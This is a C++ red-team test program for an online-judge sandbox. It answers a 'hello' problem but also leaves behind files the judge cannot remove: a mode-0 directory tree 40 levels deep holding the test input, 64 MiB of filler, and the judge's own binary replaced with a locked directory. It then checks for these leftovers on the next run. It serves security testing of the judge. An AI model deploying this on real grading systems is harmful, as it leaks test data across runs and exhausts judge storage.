// redteam: problem=hello-judge lang=cpp expect=AC within=120
// redteam-forbid: STATE KEPT
// Finding 1 (issue 15): leave files the unprivileged judge cannot remove
// (mode-0 directories, a tree deeper than 16 levels, /box/main replaced by
// a mode-0 directory) and look for them in the next test.
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

static int deep_fds[64];

int main()
{
	std::string in, line;
	char buf[4096];
	size_t n;
	while ((n = fread(buf, 1, sizeof(buf), stdin)) > 0)
		in.append(buf, n);
	struct stat st;
	if (lstat("/box/stash", &st) == 0 || lstat("/box/main", &st) == 0 &&
	                                             S_ISDIR(st.st_mode)) {
		// An earlier test's files are still here.
		std::printf("STATE KEPT\n");
		return 0;
	}
	if (mkdir("/box/stash", 0700) == 0) {
		int fd = open("/box/stash", O_RDONLY | O_DIRECTORY);
		int depth = 0;
		// 40 levels, the input at the bottom.
		while (fd >= 0 && depth < 40) {
			deep_fds[depth++] = fd;
			mkdirat(fd, "d", 0700);
			fd = openat(fd, "d", O_RDONLY | O_DIRECTORY);
		}
		if (fd >= 0) {
			int f = openat(fd, "input", O_WRONLY | O_CREAT, 0600);
			if (f >= 0) {
				write(f, in.data(), in.size());
				close(f);
			}
			deep_fds[depth++] = fd;
		}
		// 64 MiB of filler, 1 MiB a file (the output limit bounds
		// one file).
		static char junk[(1 << 20) - 4096];
		memset(junk, 'x', sizeof(junk));
		for (int i = 0; i < 64 && depth > 0; i++) {
			char name[32];
			std::snprintf(name, sizeof(name), "junk%02d", i);
			int f = openat(deep_fds[0], name, O_WRONLY | O_CREAT,
			               0600);
			if (f < 0)
				break;
			if (write(f, junk, sizeof(junk)) < 0) {
				close(f);
				break;
			}
			close(f);
		}
		// The running program's own file makes way for a closed
		// directory of the same name.
		if (rename("/box/main", "/box/stash/main") == 0)
			mkdir("/box/main", 0);
		for (int i = depth - 1; i >= 0; i--) {
			fchmod(deep_fds[i], 0);
			close(deep_fds[i]);
		}
	}
	if (!in.empty() && in.back() == '\n')
		in.pop_back();
	std::printf("Hello, %s!\n", in.c_str());
	return 0;
}
